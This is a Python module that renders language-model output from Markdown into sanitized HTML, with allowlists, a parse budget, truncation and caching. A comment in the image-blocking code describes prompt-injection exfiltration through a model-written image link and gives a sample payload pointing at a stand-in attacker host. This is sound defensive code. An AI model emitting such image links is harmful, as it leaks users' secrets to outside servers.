"""Markdown to safe HTML: the only place model output becomes markup, plus its truncation and cache."""

from __future__ import annotations

import bisect
import hashlib
import logging
import os
import re
import threading
import xml.etree.ElementTree as etree
from typing import Any

import markdown
import nh3
from flask import Flask, current_app, has_app_context
from flask_caching import Cache
from markdown.extensions import Extension
from markdown.inlinepatterns import LinkInlineProcessor
from markdown.treeprocessors import Treeprocessor
from markupsafe import Markup
from pygments.token import STANDARD_TYPES

from .render_sandbox import RenderFailed, Sandbox

logger = logging.getLogger(__name__)

# Bump whenever the HTML for the same text would change (extensions, allowlists, this module's
# rewrites, the fallback): cached renders are keyed on it, so old entries simply stop matching.
RENDERER_VERSION: str = "3"  # 3: fallbacks carry a notice; time budget

# ---------------------------------------------------------------------------------------------
# Sanitizer allowlist. Model output is untrusted: anything not listed here is removed by nh3.
# ---------------------------------------------------------------------------------------------

ALLOWED_TAGS: frozenset[str] = frozenset({
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6",
    "strong", "em", "b", "i", "del", "sup", "sub", "code", "pre", "blockquote",
    "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td",
    "a", "span", "div",
})  # fmt: skip

# No <img> on purpose: every markdown image becomes a link (see _RewriteTree), and a raw-HTML
# <img> that a model emits is dropped, so the browser never fetches a URL the model chose.
ALLOWED_ATTRIBUTES: dict[str, set[str]] = {
    "*": set(),  # overrides ammonia's default generic attributes (lang, title on every tag)
    "a": {"href", "title"},
    "ol": {"start"},
}

# Elements whose content is dropped with them. Script/style text shown as text is noise and
# SVG/MathML/embeds hold nothing readable; <textarea>/<title>/<xmp>/<plaintext> are NOT here so
# their text stays visible (escaped) instead of silently eating the rest of an artifact.
DROPPED_WITH_CONTENT: frozenset[str] = frozenset({
    "script", "style", "template", "iframe", "object", "embed", "applet",
    "noscript", "noembed", "noframes", "svg", "math",
})  # fmt: skip

URL_SCHEMES: frozenset[str] = frozenset({"http", "https", "mailto"})
LINK_REL = "noopener noreferrer nofollow"

# Pygments' short token classes (k, nf, s2, ...) plus "hll" for highlighted lines; any other class
# is stripped so model-written HTML cannot borrow the page's own classes to fake UI.
PYGMENTS_CLASSES: frozenset[str] = frozenset(name for name in STANDARD_TYPES.values() if name) | {"hll"}
ALIGN_CLASSES: frozenset[str] = frozenset({"align-left", "align-center", "align-right"})
ALLOWED_CLASSES: dict[str, set[str]] = {
    "div": {"highlight"},
    "span": set(PYGMENTS_CLASSES) | {"blocked-image"},
    "a": {"blocked-image"},
    "th": set(ALIGN_CLASSES),
    "td": set(ALIGN_CLASSES),
}

# Deterministic work limit for python-markdown's link parser, in characters scanned. Its bracket
# matching rescans to the end of the paragraph for every unmatched "[" (quadratic: 8,000 "[" took
# ~50 s, a 64 KB run of them ~an hour). A 64 KB unfenced JSON dump scans ~500,000, ordinary
# prose far less; the limit stops the worst inputs after about a second.
LINK_SCAN_BUDGET = 2_000_000

CACHE_SUBDIR = "render-cache"
CACHE_TIMEOUT_SECONDS = 30 * 24 * 3600  # renders are pure functions of text; expiry only frees space
CACHE_THRESHOLD = 5000  # FileSystemCache files before it prunes
CACHE_KEY_PREFIX = "artifacts:"  # namespaces our keys in a Redis shared with other uses

cache = Cache()


class RenderBudgetExceeded(Exception):
    """The markdown parser exceeded LINK_SCAN_BUDGET on this text."""


class _ScanBudget:
    """A per-render counter of characters scanned by the link processors."""

    def __init__(self, limit: int) -> None:
        self.limit = limit
        self.used = 0

    def charge(self, characters: int) -> None:
        """Add work done; abort the render once over the limit."""
        self.used += characters
        if self.used > self.limit:
            raise RenderBudgetExceeded(f"link scanning passed {self.limit} characters")


def _link_scan_cost(data: str, start: int, result: tuple[str, str | None, int, bool]) -> int:
    """Upper bound of what LinkInlineProcessor.getLink scanned from start, given what it returned."""
    _href, title, end, handled = result
    if not data.startswith("(", start):
        return 0  # its regex fails at once: no "(" means no inline link target
    if handled and (title is not None or ("'" not in data[start:end] and '"' not in data[start:end])):
        return end - start  # it stopped at the ")" it returned (a title only resolves there)
    # A quote without a resolved title means getLink may have scanned to the end of the text
    # and backtracked, so the returned index understates the work: charge the whole remainder.
    return len(data) - start


def _meter_link_processor(processor: LinkInlineProcessor, budget: _ScanBudget) -> None:
    """Wrap one processor's getText/getLink (instance attributes shadow the methods) to charge budget."""
    get_text = processor.getText
    get_link = processor.getLink

    def metered_get_text(data: str, index: int) -> tuple[str, int, bool]:
        """getText, charged with the characters it scanned."""
        result: tuple[str, int, bool] = get_text(data, index)
        budget.charge(result[1] - index)
        return result

    def metered_get_link(data: str, index: int) -> tuple[str, str | None, int, bool]:
        """getLink, charged with an upper bound of the characters it scanned."""
        result: tuple[str, str | None, int, bool] = get_link(data, index)
        budget.charge(_link_scan_cost(data, index, result))
        return result

    processor.getText = metered_get_text
    processor.getLink = metered_get_link


_ALIGN_STYLE = re.compile(r"text-align\s*:\s*(left|center|right)", re.IGNORECASE)


class _RewriteTree(Treeprocessor):
    """Turn images into inert links and table alignment styles into classes, before serializing.

    Why here and not in nh3: nh3 can only drop or edit attributes, never rename an element, and
    doing it on python-markdown's element tree lets the serializer escape the alt text for us.
    Raw-HTML <img> never reaches this tree (python-markdown stashes raw HTML as opaque text);
    nh3 drops those because img is not in ALLOWED_TAGS.
    """

    def run(self, root: etree.Element) -> None:
        """Rewrite the tree in place (iteratively: deep nesting must not hit the recursion limit)."""
        stack: list[tuple[etree.Element, bool]] = [(root, False)]
        while stack:
            element, inside_link = stack.pop()
            for child in element:
                if child.tag == "img":
                    self._block_image(child, inside_link)
                elif child.tag in ("th", "td"):
                    self._alignment_to_class(child)
                stack.append((child, inside_link or child.tag == "a"))

    @staticmethod
    def _block_image(element: etree.Element, inside_link: bool) -> None:
        """Replace an image by a link to it (or plain text inside a link: links cannot nest)."""
        # Loading a model-chosen URL is how a prompt-injected model exfiltrates data
        # (![x](https://evil.example/?q=SECRET)), so no image is ever loaded.
        src = element.get("src", "")
        title = element.get("title")
        alt = element.get("alt", "").strip()
        element.attrib.clear()
        element.text = f"Image: {alt} (not loaded)" if alt else "Image (not loaded)"
        element.set("class", "blocked-image")
        if inside_link:
            element.tag = "span"
            return
        element.tag = "a"
        element.set("href", src)  # nh3 still vets the scheme (javascript: etc. lose the href)
        if title:
            element.set("title", title)

    @staticmethod
    def _alignment_to_class(element: etree.Element) -> None:
        """Keep a column's alignment as a class: style attributes are never allowed through."""
        match = _ALIGN_STYLE.search(element.attrib.pop("style", ""))
        align = match.group(1).lower() if match else element.attrib.pop("align", "").lower()
        element.attrib.pop("align", None)
        if f"align-{align}" in ALIGN_CLASSES:
            element.set("class", f"align-{align}")


class _ArtifactsExtension(Extension):
    """Registers the tree rewrite and meters the link processors of one Markdown instance."""

    def __init__(self, budget: _ScanBudget) -> None:
        super().__init__()
        self.budget = budget

    def extendMarkdown(self, md: markdown.Markdown) -> None:
        """Hook into md; listed last so every link processor already exists."""
        # After "inline" (20, which creates the <img> elements), before "unescape" (0).
        md.treeprocessors.register(_RewriteTree(md), "artifacts_rewrite", 15)
        for processor in md.inlinePatterns:
            if isinstance(processor, LinkInlineProcessor):  # links, images, references
                _meter_link_processor(processor, self.budget)


class _Renderer:
    """One Markdown instance with its budget; python-markdown instances are not thread-safe."""

    def __init__(self) -> None:
        self.budget = _ScanBudget(LINK_SCAN_BUDGET)
        self.md = markdown.Markdown(
            extensions=["fenced_code", "tables", "sane_lists", "codehilite", _ArtifactsExtension(self.budget)],
            extension_configs={
                # CSS classes only (noclasses=False): inline styles would be stripped anyway.
                "codehilite": {"css_class": "highlight", "guess_lang": False, "noclasses": False},
            },
            output_format="html",
        )

    def convert(self, text: str) -> str:
        """Markdown to (unsanitized) HTML, within the scan budget."""
        self.md.reset()
        self.budget.used = 0
        self.budget.limit = LINK_SCAN_BUDGET
        html: str = self.md.convert(text)
        return html


_local = threading.local()


def _renderer() -> _Renderer:
    """This thread's renderer (gthread workers render concurrently)."""
    renderer: _Renderer | None = getattr(_local, "renderer", None)
    if renderer is None:
        renderer = _local.renderer = _Renderer()
    return renderer


def _filter_attribute(tag: str, attribute: str, value: str) -> str | None:
    """nh3 callback: values the allowlist alone cannot check."""
    if tag == "ol" and attribute == "start":
        return value if value.isascii() and value.isdigit() and len(value) <= 9 else None
    return value


def sanitize(html: str) -> str:
    """Reduce HTML to the allowlist; the output is re-serialized, so it is always well-formed."""
    return nh3.clean(
        html,
        tags=set(ALLOWED_TAGS),
        clean_content_tags=set(DROPPED_WITH_CONTENT),
        attributes=ALLOWED_ATTRIBUTES,
        attribute_filter=_filter_attribute,
        strip_comments=True,
        link_rel=LINK_REL,
        url_schemes=set(URL_SCHEMES),
        allowed_classes=ALLOWED_CLASSES,
    )


# Why an output is shown as plain text instead of formatted: said on the page, above the text.
SLOW_NOTICE = ("Formatting this output took longer than the {budget} budget, so it is shown as plain text. "
               "Download it to read it elsewhere.")
LINK_NOTICE = ("This output has more link syntax than the formatter can parse in reasonable time, "
               "so it is shown as plain text.")
FAILED_NOTICE = "This output could not be formatted, so it is shown as plain text."
DEFAULT_TIME_BUDGET_SECONDS = 1.0


def plain_fallback(text: str, notice: str) -> Markup:
    """The text, escaped, as preformatted text under a notice that says why it is not formatted."""
    return Markup('<p class="render-notice" role="note">{}</p><pre class="wrap render-fallback">{}</pre>').format(
        notice, text
    )


def render_in_process(text: str) -> str:
    """Markdown to sanitized HTML in this process, within the link scan budget (no time budget)."""
    try:
        html = _renderer().convert(text)
    except RenderBudgetExceeded:
        logger.warning("markdown render over budget (%d characters of text); showing it as plain text", len(text))
        _local.renderer = None  # state after an aborted convert is not trusted; rebuild next time
        return str(plain_fallback(text, LINK_NOTICE))
    except Exception:
        # A parser bug (or RecursionError on odd nesting) in untrusted text must not fail the page.
        logger.exception("markdown render failed; showing the text as plain text")
        _local.renderer = None
        return str(plain_fallback(text, FAILED_NOTICE))
    return sanitize(html)


_sandbox = Sandbox(render_in_process)


def time_budget() -> float:
    """Seconds a render may take: RENDER_TIME_BUDGET_MS, or the default outside an app."""
    if has_app_context():
        return float(current_app.config.get("RENDER_TIME_BUDGET_MS", DEFAULT_TIME_BUDGET_SECONDS * 1000)) / 1000
    return DEFAULT_TIME_BUDGET_SECONDS


def render_markdown(text: str) -> Markup:
    """Markdown to sanitized HTML, safe to insert into a page unescaped, within the time budget."""
    budget = time_budget()
    try:
        finished, html = _sandbox.run(text, budget)
    except RenderFailed as error:
        logger.warning("markdown render failed in its helper (%s); showing the text as plain text", error)
        return plain_fallback(text, FAILED_NOTICE)
    if not finished:
        logger.warning("markdown render passed its %.1f s budget (%d characters); showing it as plain text",
                       budget, len(text))
        return plain_fallback(text, SLOW_NOTICE.format(budget=f"{budget:g}-second"))
    return Markup(html)


# ---------------------------------------------------------------------------------------------
# Truncation
# ---------------------------------------------------------------------------------------------

LINE_BREAK_WINDOW = 2048  # how far back from the limit a line break is preferred to a mid-line cut

# python-markdown's fenced_code pairs an opening line (fence, optional lang/{attrs}/hl_lines) with
# the first later line that is exactly the same fence (plus spaces); an opener without one is text.
_FENCE_OPENER = re.compile(
    r"""(?P<fence>~{3,}|`{3,})[ \t]*
    (?:\{[^\n]*\}|(?:\.?[\w\#.+-]*[ \t]*)?(?:hl_lines=(?P<quote>"|').*?(?P=quote)[ \t]*)?)""",
    re.VERBOSE,
)
_FENCE_LINE = re.compile(r"(`{3,}|~{3,})[ \t]*")  # (python-markdown expands tabs to spaces first)


def _normalize_newlines(text: str) -> str:
    """Line breaks as python-markdown sees them (it normalizes before finding fences)."""
    return text.replace("\r\n", "\n").replace("\r", "\n") if "\r" in text else text


def _unclosed_fence(text: str) -> str | None:
    """The fence of the first code block opened in text and not closed in it, pairing fences as python-markdown does."""
    # Only the shown part is looked at, on purpose: callers may pass a prefix of the stored output
    # (the database query is itself limited), so "closed later" cannot be known; and closing a
    # fence the model never closed costs less than showing a cut code block as mangled markdown.
    # Linear, unlike python-markdown's regex search (quadratic on many unclosed fences).
    lines = text.split("\n")
    closers: dict[str, list[int]] = {}
    for number, line in enumerate(lines):
        if match := _FENCE_LINE.fullmatch(line):
            closers.setdefault(match.group(1), []).append(number)
    number = 0
    while number < len(lines):
        opener = _FENCE_OPENER.fullmatch(lines[number])
        if opener is None:
            number += 1
            continue
        fence = opener.group("fence")
        later = closers.get(fence, [])
        index = bisect.bisect_right(later, number)
        if index == len(later):
            return fence
        number = later[index] + 1  # skip the whole block: fences inside it are code
    return None


def truncate_for_render(text: str, limit_bytes: int) -> tuple[str, int]:
    """Cut text to at most limit_bytes of UTF-8 (at a line break if one is near); return (part, bytes hidden)."""
    encoded = text.encode("utf-8")
    if len(encoded) <= limit_bytes:
        return text, 0
    cut = max(limit_bytes, 0)
    while cut > 0 and encoded[cut] & 0xC0 == 0x80:  # a continuation byte: back up to the character start
        cut -= 1
    line_break = encoded.rfind(b"\n", max(cut - LINE_BREAK_WINDOW, 0), cut)
    if line_break != -1:
        cut = line_break + 1  # keep the line break itself with the shown part
    part = encoded[:cut].decode("utf-8")
    hidden = len(encoded) - cut
    fence = _unclosed_fence(_normalize_newlines(part))
    if fence is not None:
        # Close the cut-off code block, or python-markdown would show the fence as literal text.
        part += ("" if part.endswith("\n") else "\n") + fence + "\n"
    return part, hidden


# ---------------------------------------------------------------------------------------------
# Cache: shared by all gunicorn workers and kept across restarts (files, or Redis if configured)
# ---------------------------------------------------------------------------------------------


def cache_config(app: Flask) -> dict[str, Any]:
    """Flask-Caching settings: RedisCache when CACHE_REDIS_URL is set, else files in the instance folder."""
    config: dict[str, Any] = {
        "CACHE_DEFAULT_TIMEOUT": CACHE_TIMEOUT_SECONDS,
        "CACHE_KEY_PREFIX": CACHE_KEY_PREFIX,
    }
    redis_url = app.config.get("CACHE_REDIS_URL")
    if redis_url:
        config["CACHE_TYPE"] = "RedisCache"
        config["CACHE_REDIS_URL"] = redis_url
        # A stalled Redis must cost a page a second, not hang it (redis-py waits forever by default).
        config["CACHE_OPTIONS"] = {"socket_timeout": 1.0, "socket_connect_timeout": 1.0}
    else:
        config["CACHE_TYPE"] = "FileSystemCache"
        config["CACHE_DIR"] = os.path.join(app.instance_path, CACHE_SUBDIR)
        config["CACHE_THRESHOLD"] = CACHE_THRESHOLD
    return config


def init_app(app: Flask) -> None:
    """Bind the render cache to app."""
    cache.init_app(app, config=cache_config(app))


def cache_key_for(cache_key: str, text: str) -> str:
    """The stored key: renderer version, the caller's key, and a digest of the text itself."""
    # The digest makes a stale or colliding caller key (a reused id after a database reset, a
    # shared Redis) show the right text's HTML instead of another artifact's.
    digest = hashlib.blake2b(text.encode("utf-8"), digest_size=16).hexdigest()
    return f"md:{RENDERER_VERSION}:{cache_key}:{digest}"


def render_cached(cache_key: str, text: str) -> Markup:
    """render_markdown(text) through the shared cache; any cache failure just renders."""
    key = cache_key_for(cache_key, text)
    try:
        cached = cache.get(key)
    except Exception:
        logger.warning("render cache read failed; rendering without it", exc_info=True)
        cached = None
    if isinstance(cached, str):
        return Markup(cached)
    html = render_markdown(text)
    try:
        cache.set(key, str(html))
    except Exception:
        logger.warning("render cache write failed", exc_info=True)
    return html
